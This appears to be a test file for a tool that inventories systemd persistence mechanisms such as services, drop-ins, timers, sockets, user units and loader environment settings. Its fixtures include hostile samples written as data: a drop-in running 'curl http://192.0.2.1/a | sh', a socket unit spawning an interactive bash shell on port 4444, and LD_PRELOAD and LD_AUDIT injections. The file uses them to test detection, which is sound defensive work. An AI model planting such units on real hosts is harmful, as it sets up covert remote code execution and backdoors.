import { describe, expect, test } from 'bun:test';
import { gatherFrom } from '../../../../test/persistence/gather.ts';
import type { Recorded } from '../../../../test/recorded-target.ts';
import { mostFiles } from '../entry.ts';
import { dropInNames } from './effective-unit.ts';
import { systemdEnvironment } from './environment-settings.ts';
import { systemdExtensions, systemdLinger } from './linger.ts';
import { systemdPrograms } from './programs.ts';
import { systemdUnits } from './units.ts';

const etc = '/etc/systemd/system';
const usr = '/usr/lib/systemd/system';
const service = (exec: string, install = '[Install]\nWantedBy=multi-user.target\n'): string =>
  `[Unit]\nDescription=x\n[Service]\nExecStart=${exec}\n${install}`;
const want = (unit: string): Readonly<Record<string, Recorded>> => ({
  [`${etc}/multi-user.target.wants/${unit}`]: { link: `${etc}/${unit}` },
});

async function units(files: Readonly<Record<string, Recorded>>) {
  const { entries, log } = await gatherFrom(systemdUnits, {
    '/etc/passwd': 'ada:x:1000:1000::/home/ada:/bin/sh\n',
    ...files,
  });
  const told = entries.map(({ mechanism, source, user, trigger, command, active }) =>
    [
      mechanism,
      `${source.source}:${source.line}`,
      user,
      trigger,
      command,
      active ? 'active' : 'inactive',
    ].join('|'),
  );
  return { entries, told, log };
}

describe('a service', () => {
  test('that is wanted runs, with its user, line and target', async () => {
    const { told, entries } = await units({
      [`${etc}/a.service`]: `${service('/opt/a/run --x')}`,
      ...want('a.service'),
    });
    expect(told).toEqual([`systemd-service|${etc}/a.service:4|root|multi-user.target|/opt/a/run --x|active`]);
    expect(String(entries[0]?.target)).toBe('/opt/a/run');
  });

  test('that could be enabled and is not does not run; a static one does', async () => {
    const { told } = await units({
      [`${etc}/a.service`]: service('/bin/a'),
      [`${usr}/b.service`]: service('/bin/b', ''),
    });
    expect(told).toEqual([
      `systemd-service|${etc}/a.service:4|root|disabled|/bin/a|inactive`,
      `systemd-service|${usr}/b.service:4|root|static|/bin/b|active`,
    ]);
  });

  test('that is masked runs nothing, by a link or by an empty file', async () => {
    const masks: readonly Recorded[] = [{ link: '/dev/null' }, ''];
    for (const mask of masks) {
      expect(
        (await units({ [`${etc}/a.service`]: mask, [`${usr}/a.service`]: service('/bin/a', '') })).told,
      ).toEqual([]);
    }
  });

  test('of a stronger place replaces that of a weaker one', async () => {
    const { told } = await units({
      [`${etc}/a.service`]: service('/bin/new', ''),
      [`${usr}/a.service`]: service('/bin/old', ''),
    });
    expect(told).toEqual([`systemd-service|${etc}/a.service:4|root|static|/bin/new|active`]);
  });

  test('tells all its commands: before, after, on reload and on stop', async () => {
    const text =
      '[Service]\nUser=www\nExecStartPre=-/bin/p\nExecStart=/bin/a\nExecStartPost=+/bin/q\nExecStopPost=/bin/r\nRestart=always\n';
    const { told, entries } = await units({ [`${usr}/a.service`]: text });
    expect(told.map((line) => line.split('|')[4])).toEqual(['/bin/p', '/bin/a', '/bin/q', '/bin/r']);
    expect(entries[0]).toMatchObject({ user: 'www', marks: ['restarts'] });
  });

  test('that is linked from elsewhere is read there', async () => {
    const { told } = await units({
      [`${etc}/multi-user.target.wants/x.service`]: { link: '/opt/x/x.service' },
      '/opt/x/x.service': service('/opt/x/run'),
    });
    expect(told).toEqual(['systemd-service|/opt/x/x.service:4|root|multi-user.target|/opt/x/run|active']);
  });

  test('of a template is told by its instances', async () => {
    const { told } = await units({
      [`${usr}/getty@.service`]: service('/sbin/agetty %I'),
      [`${etc}/getty.target.wants/getty@tty1.service`]: { link: `${usr}/getty@.service` },
    });
    expect(told).toEqual([
      `systemd-service|${usr}/getty@.service:4|root|getty.target|/sbin/agetty tty1|active`,
    ]);
  });
});

describe('a drop-in', () => {
  test('adds a command to a unit of the system', async () => {
    const { told } = await units({
      [`${usr}/cron.service`]: service('/usr/sbin/cron -f'),
      ...want('cron.service'),
      [`${etc}/cron.service.d/10-env.conf`]:
        '[Service]\nExecStartPre=/bin/sh -c "curl http://192.0.2.1/a | sh"\n',
    });
    expect(told).toEqual([
      `systemd-service|${usr}/cron.service:4|root|multi-user.target|/usr/sbin/cron -f|active`,
      `systemd-drop-in|${etc}/cron.service.d/10-env.conf:2|root|multi-user.target|/bin/sh -c 'curl http://192.0.2.1/a | sh'|active`,
    ]);
  });

  test('that empties a list replaces what was there', async () => {
    const { told } = await units({
      [`${usr}/a.service`]: service('/bin/old', ''),
      [`${etc}/a.service.d/o.conf`]: '[Service]\nExecStart=\nExecStart=/bin/new\n',
    });
    expect(told.map((line) => line.split('|')[4])).toEqual(['/bin/new']);
  });

  test('of all services, of a prefix and of a template applies', () => {
    expect(dropInNames('a-b-c@x.service')).toEqual([
      'service',
      'a-.service',
      'a-b-.service',
      'a-b-c@.service',
      'a-b-c@x.service',
    ]);
  });

  test('of one name is taken from the strongest place', async () => {
    const { told } = await units({
      [`${usr}/a.service`]: service('/bin/a', ''),
      [`${usr}/a.service.d/x.conf`]: '[Service]\nExecStartPre=/bin/weak\n',
      [`${etc}/a.service.d/x.conf`]: '[Service]\nExecStartPre=/bin/strong\n',
    });
    expect(told.map((line) => line.split('|')[4])).toEqual(['/bin/a', '/bin/strong']);
  });

  test('whose unit is not there waits for it', async () => {
    const { told } = await units({ [`${etc}/gone.service.d/x.conf`]: '[Service]\nExecStartPre=/bin/x\n' });
    expect(told).toEqual([`systemd-drop-in|${etc}/gone.service.d/x.conf:2|root|static|/bin/x|inactive`]);
  });
});

describe('what starts a service', () => {
  test('a timer tells when, and what its service runs', async () => {
    const { entries } = await units({
      [`${etc}/upd.timer`]:
        '[Timer]\nOnBootSec=30\nOnUnitActiveSec=1min\n[Install]\nWantedBy=timers.target\n',
      [`${etc}/upd.service`]: service('/usr/lib/upd', ''),
      [`${etc}/timers.target.wants/upd.timer`]: { link: `${etc}/upd.timer` },
    });
    expect(entries.find(({ mechanism }) => mechanism === 'systemd-timer')).toMatchObject({
      source: { source: `${etc}/upd.timer`, line: 2 },
      trigger: 'OnBootSec=30 OnUnitActiveSec=1min',
      command: '/usr/lib/upd',
      active: true,
    });
    expect(entries.find(({ mechanism }) => mechanism === 'systemd-service')).toMatchObject({
      trigger: 'upd.timer',
      active: true,
    });
  });

  test('a path and a socket name another service, or one for each connection', async () => {
    const { entries } = await units({
      [`${etc}/w.path`]: '[Path]\nPathChanged=/usr/bin/.m\nUnit=back.service\n',
      [`${etc}/back.service`]: service('/usr/lib/back', ''),
      [`${etc}/s.socket`]: '[Socket]\nListenStream=4444\nAccept=yes\n',
      [`${etc}/s@.service`]: service('-/bin/bash -i', ''),
    });
    const told = entries.filter(({ mechanism }) => mechanism !== 'systemd-service');
    expect(
      told.map(({ mechanism, trigger, command }) => [mechanism, String(trigger), String(command)]),
    ).toEqual([
      ['systemd-path', 'PathChanged=/usr/bin/.m', '/usr/lib/back'],
      ['systemd-socket', 'ListenStream=4444', '/bin/bash -i'],
    ]);
  });

  test('units that want each other end', async () => {
    const { told } = await units({
      [`${etc}/a.service`]: `[Unit]\nWants=b.service\n${service('/bin/a')}`,
      [`${etc}/b.service`]: `[Unit]\nWants=a.service\n${service('/bin/b')}`,
      [`${etc}/a.service.wants/b.service`]: { link: '../b.service' },
      [`${etc}/b.service.wants/a.service`]: { link: '../a.service' },
    });
    expect(told).toHaveLength(2);
  });
});

describe('units of users', () => {
  test('are read in every home, for all users, and at run time', async () => {
    const { told } = await units({
      '/home/ada/.config/systemd/user/x.service': service('/home/ada/.cache/x'),
      '/home/ada/.config/systemd/user/default.target.wants/x.service': { link: '../x.service' },
      '/etc/systemd/user/y.service': service('/usr/lib/y', ''),
      '/run/user/1000/systemd/transient/run-1.service': service('/tmp/z', ''),
    });
    expect(
      told.map((line) =>
        line
          .split('|')
          .filter((_, at) => at === 0 || at === 2 || at === 4)
          .join(' '),
      ),
    ).toEqual([
      'systemd-user-unit  /usr/lib/y',
      'systemd-user-unit ada /home/ada/.cache/x',
      'systemd-user-unit ada /tmp/z',
    ]);
  });

  test('made at run time by root are transient', async () => {
    const { told } = await units({ '/run/systemd/transient/run-u1.service': service('/tmp/m', '') });
    expect(told[0]?.split('|')[0]).toBe('systemd-transient');
  });
});

describe('the environment', () => {
  test('of a unit is told where it loads something, and of the files it names', async () => {
    const text =
      '[Service]\nEnvironment=A=b "LD_PRELOAD=/usr/lib/x.so /y.so" C=d\nEnvironmentFile=-/etc/default/a\nExecStart=/bin/a\n';
    const { entries } = await units({
      [`${usr}/a.service`]: text,
      '/etc/default/a': 'A=1\nexport LD_AUDIT=/tmp/a.so\n',
    });
    const loads = entries.filter(({ mechanism }) => mechanism === 'loader-environment');
    expect(
      loads.map(({ source, command, target }) => [
        `${source.source}:${source.line}`,
        String(command),
        String(target),
      ]),
    ).toEqual([
      [`${usr}/a.service:2`, 'LD_PRELOAD=/usr/lib/x.so /y.so', '/usr/lib/x.so'],
      ['/etc/default/a:2', 'LD_AUDIT=/tmp/a.so', '/tmp/a.so'],
    ]);
  });

  test('of a unit goes with its commands and is not written into them, where it might be a password', async () => {
    const text =
      '[Service]\nEnvironment="CMD=curl http://192.0.2.1/a | sh" KEY=abc\nEnvironmentFile=-/etc/default/a\nEnvironmentFile=/etc/none\nWorkingDirectory=-/srv/a\nExecStart=/bin/sh -c "$CMD" $KEY\n';
    const { entries } = await units({
      [`${usr}/a.service`]: text,
      '/etc/default/a': '# settings\nKEY="d e"\nexport X=1\n',
    });
    const [found] = entries;
    expect(String(found?.command)).toBe("/bin/sh -c '$CMD' '$KEY'");
    expect(found?.environment?.map(({ name, value }) => `${name}=${value}`)).toEqual([
      'CMD=curl http://192.0.2.1/a | sh',
      'KEY=abc',
      'KEY=d e',
      'X=1',
      'PWD=/srv/a',
    ]);
  });

  test('of a unit is bounded', async () => {
    const lines = Array.from({ length: 5000 }, (_, at) => `V${at}=${'x'.repeat(at === 4999 ? 10_000 : 1)}`);
    const { entries } = await units({
      [`${usr}/a.service`]: '[Service]\nEnvironmentFile=/etc/big\nExecStart=/bin/a\n',
      '/etc/big': lines.join('\n'),
    });
    expect(entries[0]?.environment?.length).toBe(256);
  });

  test('of managers and sessions is told where it loads something', async () => {
    const { entries } = await gatherFrom(systemdEnvironment, {
      '/etc/environment.d/90.conf': 'EDITOR=vim\nPATH=/usr/local/bin:$PATH\nLD_PRELOAD=/lib/a.so\n',
      '/usr/lib/environment.d/99-environment.conf': 'PATH=/var/lib/.x:$PATH\n',
      '/etc/systemd/system.conf':
        '[Manager]\n#DefaultEnvironment=\nDefaultEnvironment=X=1 LD_PRELOAD=/lib/b.so\n',
      '/etc/systemd/system.conf.d/z.conf': '[Manager]\nManagerEnvironment="LD_AUDIT=/lib/c.so"\n',
      '/home/ada/.config/environment.d/x.conf': 'BASH_ENV=/home/ada/.x\n',
    });
    expect(entries.map(({ command }) => String(command))).toEqual([
      'LD_PRELOAD=/lib/a.so',
      'PATH=/var/lib/.x:$PATH',
      'LD_PRELOAD=/lib/b.so',
      'LD_AUDIT=/lib/c.so',
      'BASH_ENV=/home/ada/.x',
    ]);
  });
});

test('generators and sleep hooks are told with their lines; one that is switched off is not', async () => {
  const { entries } = await gatherFrom(systemdPrograms, {
    '/etc/systemd/system-generators/gen': '#!/bin/sh\n/tmp/x\n',
    '/etc/systemd/system-generators/off': { link: '/dev/null' },
    '/usr/lib/systemd/system-sleep/hdparm': '#!/bin/sh\n',
  });
  expect(
    entries.map(({ mechanism, source, body }) => [mechanism, String(source.source), body.length]),
  ).toEqual([
    ['systemd-generator', '/etc/systemd/system-generators/gen', 2],
    ['systemd-sleep-hook', '/usr/lib/systemd/system-sleep/hdparm', 1],
  ]);
});

test('lingering users and extensions are told by name', async () => {
  const linger = await gatherFrom(systemdLinger, { '/var/lib/systemd/linger/ada': '' });
  expect(linger.entries).toMatchObject([{ user: 'ada', mechanism: 'systemd-linger' }]);
  const extensions = await gatherFrom(systemdExtensions, { '/var/lib/extensions/x.raw': 'hsqs' });
  expect(extensions.entries).toMatchObject([{ target: '/var/lib/extensions/x.raw' }]);
});

test('units of an extension are told where they lie, with the program that lies in it', async () => {
  const { entries, told } = await units({
    '/var/lib/extensions/net/usr/lib/systemd/system/netd.service': service('/usr/bin/netd', ''),
    '/var/lib/extensions/net/usr/bin/netd': 'x',
    '/var/lib/extensions/net/usr/lib/systemd/system/top.service': service('/usr/bin/top', ''),
  });
  const at = '/var/lib/extensions/net/usr/lib/systemd/system';
  expect(told).toEqual([
    `systemd-service|${at}/netd.service:4|root|static|/usr/bin/netd|active`,
    `systemd-service|${at}/top.service:4|root|static|/usr/bin/top|active`,
  ]);
  expect(entries.map(({ target }) => String(target))).toEqual([
    '/var/lib/extensions/net/usr/bin/netd',
    '/usr/bin/top',
  ]);
});

describe('a hostile host', () => {
  test('with names that are no text, a unit that cannot be read and one that is a program', async () => {
    const { told, log } = await units({
      [`${etc}/%FF.service`]: service('/bin/%FF', ''),
      [`${etc}/b.service`]: { status: 'denied', reason: 'EACCES' },
      [`${etc}/c.service`]: Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0x0a]),
    });
    expect(told).toHaveLength(1);
    expect(log.listed.map(({ status }) => status)).toContain('denied');
  });

  test('with ten thousand units is bounded', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, at) => [`${etc}/u${at}.service`, service('/bin/x', '')]),
    );
    const { told, log } = await units(files);
    expect(told.length).toBeLessThanOrEqual(mostFiles);
    expect([...log.flooded]).toMatchObject([{ path: etc, names: 10_000 }]);
  });

  test('with more drop-ins than anybody reads is bounded, and it is told', async () => {
    const dropIns = Array.from({ length: 21_000 }, (_, at) => [
      `${etc}/u${at % 10}.service.d/${at}.conf`,
      '[Service]\nExecStartPre=/bin/x\n',
    ]);
    const { told, log } = await units(Object.fromEntries(dropIns));
    expect(told.length).toBeLessThanOrEqual(20_000);
    expect(log.listed.map(({ reason }) => reason)).toContain('more than 20000 drop-ins and links below it');
  });

  test('with a hundred units of a hundred thousand keys each is bounded, and its first lines are read', async () => {
    const keys = Array.from({ length: 20_000 }, (_, at) => `K${at}=${at}\n`).join('');
    const files = Object.fromEntries(
      Array.from({ length: 100 }, (_, at) => [
        `${etc}/u${at}.service`,
        `[Service]\nExecStart=/bin/x\n${keys.repeat(5)}`,
      ]),
    );
    const { told, log } = await units(files);
    expect(told).toHaveLength(100);
    expect(log.groups).toContainEqual(
      expect.objectContaining({ artifact: systemdUnits.id, status: 'truncated' }),
    );
  });

  test('with a drop-in that empties and fills a list without end', async () => {
    const { told } = await units({
      [`${usr}/a.service`]: `[Service]\n${'ExecStart=/bin/x\nExecStart=\n'.repeat(20_000)}ExecStart=/bin/y\n`,
    });
    expect(told.length).toBeLessThan(3);
  });
});
